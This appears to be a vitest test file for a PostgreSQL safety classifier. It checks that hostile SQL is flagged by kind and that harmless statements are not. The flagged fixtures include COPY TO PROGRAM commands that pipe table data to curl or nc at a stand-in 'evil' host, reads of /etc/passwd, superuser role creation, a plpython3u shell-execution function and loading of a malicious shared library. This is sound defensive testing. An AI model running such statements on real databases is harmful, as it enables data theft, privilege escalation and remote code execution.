import { beforeAll, describe, expect, it } from 'vitest';
import { dangerHeader } from '../core/safety';
import { loadParser, type PgParser } from './import/pgParser';
import { dangersIn, dangerousStatements } from './safetyScan';

let parser: PgParser;
beforeAll(async () => {
  parser = await loadParser();
});
const kinds = (sql: string) => dangersIn(parser, sql).map((d) => d.kind);

describe('the safety classifier (PostgreSQL parse trees)', () => {
  it.each([
    ["COPY users TO PROGRAM 'curl -d @- https://evil.example'", 'program'],
    ["COPY users FROM PROGRAM 'cat /etc/passwd'", 'program'],
    ["copy (select * from users) to program 'nc evil 80'", 'program'],
    ["COPY users FROM '/etc/passwd'", 'file'],
    ["COPY users TO '/tmp/dump.csv' (FORMAT csv)", 'file'],
    ["SELECT pg_read_file('/etc/passwd')", 'file'],
    ["SELECT pg_catalog.pg_read_binary_file('global/pg_control')", 'file'],
    ["SELECT * FROM pg_ls_dir('.')", 'file'],
    ["SELECT lo_import('/etc/passwd')", 'file'],
    ["SELECT lo_export(16384, '/tmp/x')", 'file'],
    ['SELECT lo_unlink(16384)', 'file'],
    ['DROP SCHEMA public CASCADE', 'destructive'],
    ['DROP SCHEMA IF EXISTS app', 'destructive'],
    ['DROP DATABASE prod', 'destructive'],
    ['DROP OWNED BY app', 'destructive'],
    ['TRUNCATE orders', 'destructive'],
    ['DELETE FROM orders', 'destructive'],
    ["UPDATE users SET password = 'x'", 'destructive'],
    ['DROP ROLE app', 'privilege'],
    ["CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", 'privilege'],
    ['ALTER ROLE app SUPERUSER', 'privilege'],
    ['ALTER USER app WITH PASSWORD NULL', 'privilege'],
    ['GRANT pg_execute_server_program TO app', 'privilege'],
    ['GRANT postgres TO app', 'privilege'],
    ['GRANT ALL ON DATABASE prod TO PUBLIC', 'privilege'],
    ["ALTER SYSTEM SET archive_command = 'curl evil'", 'privilege'],
    ['SET ROLE postgres', 'privilege'],
    ['SET SESSION AUTHORIZATION postgres', 'privilege'],
    ["SELECT set_config('role', 'postgres', false)", 'privilege'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'privilege'],
    ['CREATE EXTENSION dblink', 'connection'],
    ['CREATE EXTENSION IF NOT EXISTS postgres_fdw', 'connection'],
    ["SELECT dblink_exec('host=evil', 'DROP TABLE x')", 'connection'],
    ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'connection'],
    ["CREATE USER MAPPING FOR PUBLIC SERVER evil OPTIONS (user 'x', password 'y')", 'connection'],
    ['CREATE EXTENSION plpython3u', 'code'],
    [
      'CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(args[0]).read() $$',
      'code',
    ],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'", 'code'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '$libdir/../../../tmp/evil', 'f'", 'code'],
    ["LOAD '/tmp/evil.so'", 'code'],
    ["CREATE TABLESPACE t LOCATION '/var/lib/x'", 'file'],
    ["DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$", 'program'],
    ["DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", 'file'],
    [
      "CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$",
      'file',
    ],
    [
      "CREATE FUNCTION leak() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('/etc/passwd'); END",
      'file',
    ],
    ["CREATE VIEW v AS SELECT pg_read_file('/etc/passwd') AS f", 'file'],
    ["CREATE TABLE t (a text DEFAULT pg_read_file('/etc/hostname'))", 'file'],
    ['DO $$ BEGIN ALTER SYSTEM SET x = 1; END $$', 'privilege'],
  ])('flags %s as %s', (sql, kind) => {
    expect(kinds(sql)).toContain(kind);
    expect(dangersIn(parser, sql)[0]?.reason.length).toBeGreaterThan(10);
  });

  it.each([
    'CREATE TABLE jobs (id bigint PRIMARY KEY, program text NOT NULL, "copy" text, lo_id int, dblink_url text)',
    'COPY public.users (id, name) FROM stdin',
    'COPY users TO STDOUT',
    'COPY (SELECT 1) TO STDOUT WITH (FORMAT csv)',
    "SELECT program, lo_id FROM jobs WHERE program = 'COPY x TO PROGRAM'",
    "COMMENT ON TABLE jobs IS 'run COPY … TO PROGRAM and pg_read_file() never'",
    'DROP TABLE IF EXISTS public.orders',
    'DROP TABLE IF EXISTS subscribers CASCADE',
    'DROP TYPE IF EXISTS user_status CASCADE',
    'CREATE FUNCTION grant_access() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN CREATE USER admin NOINHERIT; END $$',
    'DROP INDEX orders_idx',
    'DELETE FROM orders WHERE id = 1',
    'UPDATE orders SET total = 0 WHERE id = 1',
    'GRANT SELECT, INSERT ON orders TO app',
    'REVOKE ALL ON SCHEMA public FROM PUBLIC',
    'GRANT USAGE ON SCHEMA app TO reporting',
    'ALTER TABLE public.orders OWNER TO app',
    "SET search_path = ''",
    'SET client_min_messages = warning',
    "SELECT pg_catalog.set_config('search_path', '', false)",
    'CREATE EXTENSION IF NOT EXISTS pgcrypto',
    'CREATE EXTENSION citext',
    'CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE AS $$ SELECT a + b $$',
    "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); NEW.program := 'copy'; RETURN NEW; END $$",
    'DO $$ BEGIN LOOP END LOOP; END $$',
    'CREATE TRIGGER t_raster BEFORE UPDATE OR DELETE ON image FOR EACH ROW EXECUTE FUNCTION lo_manage(raster)',
    'CREATE SCHEMA app',
    // musicbrainz makes unaccent IMMUTABLE by binding its shipped C function.
    "CREATE OR REPLACE FUNCTION public.immutable_unaccent(regdictionary, text) RETURNS text LANGUAGE c IMMUTABLE PARALLEL SAFE STRICT AS '$libdir/unaccent', $function$unaccent_dict$function$",
    'CREATE VIEW active AS SELECT * FROM users WHERE NOT deleted',
  ])('does not flag %s', (sql) => {
    expect(dangersIn(parser, sql)).toEqual([]);
  });

  it('names each dangerous statement of a pg_dump-like script, and none of its COPY … FROM stdin', () => {
    const statements = [
      { sql: 'CREATE TABLE public.users (id int, program text);', from: 0 },
      { sql: 'COPY public.users (id, program) FROM stdin;', from: 51 },
      { sql: "COPY public.users TO PROGRAM 'curl -T - https://evil.example';", from: 96 },
    ];
    const text = 'x\n'.repeat(60);
    const found = dangerousStatements(parser, text, statements);
    expect(found.map((f) => f.text)).toEqual([statements[2]!.sql]);
    expect(found[0]?.line).toBe(49);
    const header = dangerHeader(found);
    expect(
      header
        .split('\n')
        .filter((l) => l.trim())
        .every((l) => l.startsWith('--')),
    ).toBe(true);
    expect(header).toContain('TO PROGRAM');
    // The header is comments only: Postgres's parser finds no statement in it.
    const parsed = parser.parse(header);
    expect(parsed.ok && parsed.value.length).toBe(0);
  });
});
